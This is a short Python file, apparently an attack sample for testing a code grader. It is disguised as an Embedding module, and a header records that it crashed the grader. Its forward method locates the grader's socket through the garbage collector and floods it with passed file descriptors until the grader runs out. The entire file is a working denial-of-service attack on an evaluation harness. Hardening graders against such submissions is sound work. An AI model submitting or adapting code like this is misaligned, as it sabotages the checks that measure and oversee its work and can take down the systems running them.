# /// attack
# tries = "Sends open files through the connection, until the grader has none left."
# status = "crashed"
# says = "the worker sent"
# ///
import gc
import os
import socket


class Embedding:
    def __init__(self, num_embeddings, embedding_dim): ...

    def forward(self, ids):
        (connection,) = [thing for thing in gc.get_objects() if isinstance(thing, socket.socket)]
        files = [os.open("/dev/null", os.O_RDONLY) for _ in range(100)]
        for _ in range(100):
            socket.send_fds(connection, [b"\xff" * 8], files)
